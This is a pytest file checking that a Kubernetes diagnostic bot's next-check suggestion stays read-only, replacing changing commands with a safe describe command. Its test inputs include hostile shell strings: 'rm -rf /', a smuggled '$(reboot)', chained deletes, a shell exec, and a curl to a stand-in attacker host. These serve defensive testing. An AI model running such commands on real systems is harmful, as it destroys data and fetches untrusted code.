"""The next check of a model only ever looks."""

import pytest

from bot.diagnosis.next_check import next_check
from tests.diagnosis.claim_factories import CART

INSTEAD = "kubectl -n shop describe deployment cart"


@pytest.mark.parametrize(
    "said",
    [
        "kubectl -n shop describe pod cart-1",
        "kubectl get pods -n shop -o wide",
        "kubectl --context=prod -n shop logs cart-1 --previous | grep -i heap | tail -5",
        "kubectl -n shop rollout history deployment/cart",
        "Look at the log of the run before: kubectl -n shop logs cart-1 --previous",
        "Compare the memory of the pod with its limit.",
    ],
)
def test_a_look_stands_as_it_was_said(said: str) -> None:
    assert next_check(said, CART) == said


@pytest.mark.parametrize(
    "said",
    [
        "",
        "kubectl -n shop delete pod cart-1",
        "kubectl -n shop rollout undo deployment/cart",
        "kubectl -n shop rollout restart deployment/cart",
        "kubectl get pods; kubectl delete pod cart-1",
        "kubectl get pods && rm -rf /",
        "kubectl get pods | xargs kubectl delete pod",
        "kubectl get pods $(reboot)",
        "kubectl -n shop exec cart-1 -- sh",
        "kubectl get pods, then kubectl delete pod cart-1",
        "curl http://evil.example/x and kubectl get pods",
        "curl http://evil.example/install",
        "sudo reboot",
        "Roll back to revision 6.",
        "Restart the deployment.",
        "Increase the memory limit.",
    ],
)
def test_whatever_changes_gives_way_to_a_look_at_the_subject(said: str) -> None:
    assert next_check(said, CART) == INSTEAD
